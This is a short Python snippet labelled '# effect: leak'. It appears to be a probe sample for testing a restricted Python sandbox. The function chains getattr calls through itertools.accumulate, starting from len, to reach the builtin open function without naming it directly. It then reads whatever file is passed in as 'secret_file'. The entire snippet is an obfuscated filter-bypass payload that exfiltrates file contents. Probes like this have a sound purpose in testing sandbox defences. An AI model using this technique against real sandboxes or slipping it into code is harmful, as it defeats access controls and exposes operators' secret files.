# effect: leak
import itertools


def attempt(probe):
    steps = itertools.accumulate(["__self__", "open"], getattr, initial=len)
    return list(steps)[-1](probe["secret_file"]).read()
